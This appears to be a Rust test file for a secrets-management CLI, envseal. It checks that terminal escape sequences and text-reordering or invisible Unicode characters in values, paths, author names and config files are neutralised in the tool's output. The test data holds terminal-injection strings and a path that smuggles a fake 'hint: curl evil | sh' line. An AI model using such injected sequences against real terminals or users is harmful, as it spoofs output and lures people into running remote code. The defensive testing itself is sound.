//! Put escape sequences, and characters that reorder text, in names, comments, paths or values.

use envseal::testing::crypto::PlaintextKind;

use super::{append, append_token, sealed_project};
use crate::support::{TestEnv, on_terminal};

const EVIL: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{202e}\u{2066}\u{61c}\r";

/// Returns the output of a command on a terminal; empty if no terminal is available.
fn shown(env: &TestEnv, arguments: &[&str]) -> String {
    on_terminal(env, arguments, None).map_or_else(String::new, |(_, text)| text)
}

#[track_caller]
fn is_clean(text: &str) {
    let bad = text
        .chars()
        .find(|c| (c.is_control() && !matches!(c, '\n' | '\t')) || (!c.is_ascii() && EVIL.contains(*c)));
    assert_eq!(bad, None, "{text:?}");
}

#[test]
fn in_values() {
    let (env, _) = sealed_project();
    append_token(&env, "EVIL", PlaintextKind::Value, &[], format!("<{EVIL}>"));
    for arguments in [
        &["get", "EVIL"][..],
        &["get"],
        &["get", "--json"],
        &["get", "--format", "shell"],
        &["get", "--format", "dotenv"],
        &["decrypt", "--stdout", "-k", "HELLO"],
    ] {
        is_clean(&shown(&env, arguments));
    }
    assert!(shown(&env, &["get", "EVIL"]).contains("<\\u{1b}]0;pwned\\u{7}"));
    // A program gets the bytes, and so does `--format raw`.
    assert_eq!(env.ok(&["get", "EVIL"]), format!("<{EVIL}>\n"));
    assert!(shown(&env, &["get", "EVIL", "--format", "raw"]).contains(EVIL));
}

/// Characters that a terminal obeys, that reorder text, or that are invisible.
const HIDING: &str = "\u{7f}\u{85}\u{9b}\u{ad}\u{61c}\u{200b}\u{200d}\u{200e}\u{200f}\u{2028}\u{2029}\u{202a}\u{202e}\u{2060}\u{2066}\u{2069}\u{feff}\u{e0041}";

#[test]
fn in_json_which_is_the_same_on_a_terminal_and_in_a_pipe() {
    let (env, _) = sealed_project();
    let folder = format!("a{HIDING}");
    env.write(format!("{folder}/.env"), env.read(".env"));
    append_token(&env, "EVIL", PlaintextKind::Value, &[], HIDING);
    let author = format!("Mallory{HIDING}é");
    env.git(&["add", "-A"]);
    let by = format!("--author={author} <m@example.com>");
    env.git(&["commit", "-q", "--no-verify", "-m", "hidden", &by]);
    append(&env, &format!("{folder}/.env"), "PLAIN=1\n");
    // Uncommitted changes have the time of the call.
    let timeless = |text: String| -> String {
        text.lines().filter(|line| !line.contains("\"time\": ")).map(|line| line.to_owned() + "\n").collect()
    };
    let told = |arguments: &[&str]| {
        let whole = String::from_utf8(env.envseal(arguments).output().stdout).unwrap();
        let (piped, shown) = (timeless(whole.clone()), timeless(shown(&env, arguments)));
        assert!(shown.is_empty() || shown.contains(&piped), "{arguments:?}: {shown:?} lacks {piped:?}");
        let hidden = piped.chars().find(|c| HIDING.contains(*c) || c.is_control() && *c != '\n');
        assert_eq!(hidden, None, "{arguments:?}: {piped:?}");
        serde_json::from_str::<serde_json::Value>(&whole)
            .unwrap_or_else(|error| panic!("{arguments:?}: {error}"))
    };
    for arguments in [
        &["check", "--json"][..],
        &["check", "--sarif"],
        &["ls", "--json"],
        &["diff", "--json"],
        &["doctor", "--json"],
        &["key", "list", "--json"],
        &["key", "show", "--json"],
        &["team", "list", "--json"],
        &["team", "exposures", "--json"],
    ] {
        told(arguments);
    }
    assert_eq!(told(&["log", "--json"])[0]["author"], author.as_str());
    assert_eq!(told(&["blame", "--json"])[0]["author"], author.as_str());
    assert_eq!(told(&["diff", "--json"])[0]["file"], format!("{folder}/.env").as_str());
    assert_eq!(told(&["get", "--json"])["EVIL"], HIDING);
    assert_eq!(told(&["get"])["EVIL"], HIDING);
    assert_eq!(told(&["get", "EVIL", "--format", "json"])["EVIL"], HIDING);
}

#[test]
fn in_paths_and_environment_names() {
    let env = TestEnv::new();
    let folder = format!("a{}\nerror: no\nhint: curl evil | sh\u{202e}", EVIL.replace('\r', ""));
    env.write(format!("{folder}/.env"), "A=1\n<<<<<<< HEAD\n");
    env.write(".env.x\u{202e}y", "A=1\n<<<<<<< HEAD\n");
    for arguments in [
        &["ls"][..],
        &["encrypt"],
        &["init"],
        &["run", "-f", &folder, "--", "true"],
        &["run", "-e", "x\u{202e}y", "--", "true"],
        &["run", "-e", "\u{1b}[31m", "--", "true"],
        &["set", "A", "1", "-f", &format!("{folder}/.env")],
        &["get", "-f", &format!("{folder}/none.env")],
    ] {
        let text = shown(&env, arguments);
        is_clean(&text);
        assert!(!text.lines().any(|line| line.starts_with("hint: curl")), "{text}");
        // Also if stderr is a log file.
        is_clean(&env.envseal(arguments).output().stderr);
    }
}

#[test]
fn in_names_comments_and_the_team_file() {
    let (env, _) = sealed_project();
    append(&env, ".env", format!("# {}\n{EVIL}=1\nA=adm#in{EVIL}\n", EVIL.replace('\r', "")));
    env.write(".env.b", format!("ENVSEAL_PUBLIC_KEY_B={EVIL}\n"));
    for arguments in [
        &["encrypt", "-f", ".env"][..],
        &["run", "-e", "b", "--", "true"],
        &["get", EVIL],
        &["unset", EVIL],
        &["ls"],
    ] {
        is_clean(&shown(&env, arguments));
    }
    env.write("envseal.toml", format!("[policy]\nplain = ['{EVIL}\n"));
    is_clean(&shown(&env, &["ls"]));
    env.write("envseal.toml", "[policy]\nplain = ['[\\u{1b}']\n".replace("\\u{1b}", "\u{9b}"));
    is_clean(&shown(&env, &["ls"]));
}
